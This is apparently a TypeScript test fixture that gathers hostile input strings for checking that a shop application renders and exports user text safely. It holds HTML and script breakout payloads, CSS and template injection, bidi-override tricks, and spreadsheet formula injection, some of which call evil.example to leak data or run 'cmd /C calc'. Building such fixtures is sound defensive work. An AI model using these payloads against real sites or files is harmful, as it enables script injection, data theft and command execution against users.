import { payloads as markdown } from '../../hostile-markdown.ts'
import { probe, texts } from '../input/hostile-values.ts'

/** Texts that end an element, an attribute, a comment or a script, each with a tag that no page has. */
const breakouts = [
  `${probe}>`,
  `"${probe}>`,
  `'>${probe}>`,
  `">${probe} onmouseover=alert(1)>`,
  `</title>${probe}>`,
  `</textarea>${probe}>`,
  `</style>${probe}>`,
  `</script><script>alert(1)</script>${probe}>`,
  `-->${probe}><!--`,
  `]]>${probe}>`,
  `<${probe}>>`,
  `\\u003c${probe.slice(1)}\\u003e`,
  `&lt;${probe.slice(1)}&gt;`,
  '" autofocus onfocus=alert(1) x="',
  '<img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<link rel=stylesheet href=//evil.example/a.css>',
]

/** Texts that leave a declaration, a rule or the style element. */
export const styles: readonly string[] = [
  'red',
  '#ca3200;}body{display:none',
  '#ca3200}</style><x-probe>',
  '#ca3200}*{background:url(https://evil.example/a.png)',
  'url(javascript:alert(1))',
  'expression(alert(1))',
  '#ca3200/*',
  '*/}body{display:none}/*',
  '\\23 ca3200',
  '#ca3200;--color-paper:#000000',
  'var(--color-ink)',
  '@import "https://evil.example/a.css"',
]

const templates = [
  '{shopName}',
  '{{constructor.constructor("alert(1)")()}}',
  '{ total }',
  '{__proto__}',
  '{',
  '{}',
  '${alert(1)}',
  '<%= 7*7 %>',
  '#{7*7}',
  '%s %d %n',
  '$& $1 $`',
  '{orderNumber}{orderNumber}',
]

const directions = [
  '\u202Egnp.exe',
  '\u2067abc\u2069',
  '\u200fשלום',
  'a\u200bb',
  '\ufefftext',
  'a\u0008b',
  '\u009b31m',
]

const words = [
  'x'.repeat(1_000),
  'W'.repeat(300),
  '-'.repeat(300),
  'א'.repeat(300),
  '😀'.repeat(100),
  'e\u0301'.repeat(200),
]

const formulas = [
  '=HYPERLINK("https://evil.example?"&A1,"Error")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=1+1",
  '=1+1',
]

/** Texts for all fields; they try to become something other than text. */
const plain = [...texts, ...breakouts, ...styles, ...templates, ...directions, ...words, ...formulas]

/** All texts except blank ones. */
export const payloads: readonly string[] = [...new Set([...plain, ...markdown])].filter(
  (text) => text.trim() !== '',
)
